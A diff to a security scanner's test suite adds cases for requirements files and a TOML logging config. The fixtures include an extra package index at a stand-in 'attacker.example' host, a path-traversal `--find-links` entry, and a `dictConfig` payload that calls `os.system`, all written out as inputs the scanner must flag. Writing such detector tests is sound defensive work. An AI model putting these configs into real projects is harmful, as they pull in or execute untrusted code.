@@ -218,6 +218,8 @@ def test_requirements_installing_unscanned_code(tmp_path: Path, line: str, name:
     ("python_env.yaml", "python: 3.11.7\nbuild_dependencies:\n- pip\ndependencies:\n"
                         "- --extra-index-url https://attacker.example/simple\n- -r requirements.txt\n", Severity.HIGH),
     ("requirements.txt", "mlflow==2.9.2\n./vendored_pkg\n", Severity.MEDIUM),
+    ("requirements.txt", "mlflow==2.9.2\n--find-links ./wheels\nmypkg==1.0\n", Severity.MEDIUM),
+    ("requirements.txt", "mlflow==2.9.2\n--find-links ../../wheels\nmypkg==1.0\n", Severity.HIGH),
 ])
 def test_conda_and_python_env_files(tmp_path: Path, name: str, text: str, severity: Severity) -> None:
     verdict, top, titles = _scan(tmp_path, name, text)
@@ -596,3 +598,12 @@ def test_tflite_flex_node_def_decides_the_kernel(tmp_path: Path, identifier: boo
 def test_json_that_only_yaml_reads(tmp_path: Path, text: str, severity: Severity) -> None:
     """``OmegaConf.load("config.json")`` parses with PyYAML: JSON that ``json.loads`` rejects is still a config."""
     assert _scan(tmp_path, "config.json", text)[1] is severity
+
+
+def test_dict_config_in_toml(tmp_path: Path) -> None:
+    """``dictConfig(tomllib.load(f))`` is a common pattern: the TOML document is judged like JSON and YAML."""
+    text = 'version = 1\n[handlers.h]\n"()" = "os.system"\ncommand = "id"\n'
+    assert _scan(tmp_path, "logging.toml", text)[1] is Severity.CRITICAL
+    benign = 'version = 1\n[handlers.console]\nclass = "logging.StreamHandler"\nstream = "ext://sys.stderr"\n'
+    verdict, top, titles = _scan(tmp_path, "logging.toml", benign)
+    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles
